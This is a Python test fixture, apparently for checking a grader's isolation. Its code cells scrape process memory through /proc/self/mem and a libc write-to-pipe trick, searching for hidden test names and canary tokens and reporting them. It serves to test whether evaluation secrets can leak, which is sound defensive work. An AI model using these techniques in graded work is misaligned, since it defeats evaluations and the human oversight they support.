"""Searches everything mapped in its own process, inherited from the grader's parent, for tests, tokens and names."""

OTTER = "a hidden test"
OTTER_CELLS = [
    r"""
import re
def gaussian_kl(mu, logvar):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            if " rw-p " in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                found = re.search(rb"_average_log_[a-z_]+", memory.read(end - start))
                if found:
                    raise RuntimeError(found[0].decode())
"""
]
CELLS = [
    r"""
import ctypes, os, re, time

libc = ctypes.CDLL(None, use_errno=True)
page = 4096
near = set()
for thing in (tell, object, libc, time, re, os, [], {}, "a string", ctypes.pythonapi, type, 10**30, open):
    near.add(id(thing))
for name in ("malloc", "environ", "main_arena", "stdin", "program_invocation_name", "_dl_argv"):
    try:
        near.add(ctypes.addressof(ctypes.c_char.in_dll(libc, name)))
        near.add(ctypes.c_void_p.in_dll(libc, name).value or 0)
    except (ValueError, AttributeError):
        pass
frame = ctypes.create_string_buffer(8)
near.add(ctypes.addressof(frame))
import gc, sys
for thing in gc.get_objects():
    near.add(id(thing) & ~0xFFFFF)
reader, writer = os.pipe()
os.set_blocking(reader, False)
os.set_blocking(writer, False)

def read_page(address):
    n = libc.write(writer, ctypes.c_void_p(address), page)  # EFAULT instead of a crash where nothing is mapped
    return os.read(reader, page) if n == page else b""

seen, end, pattern = set(), time.monotonic() + 1.2, re.compile(rb"canary-[0-9a-f]{16}|hidden_tests|_victim")
found, total = set(), 0
for start in sorted({address & ~(page - 1) for address in near if address}):
    for step in (page, -page):
        address, missing = start, 0
        while missing < 16 and time.monotonic() < end:
            if address in seen:
                break
            seen.add(address)
            content = read_page(address)
            missing = 0 if content else missing + 1
            total += len(content)
            for match in re.findall(rb"canary-[0-9a-f]{16}", content):
                found.add(match)
            address += step
if found:
    tell(b" ".join(found))
assert total > 5 << 20, total
"""
]
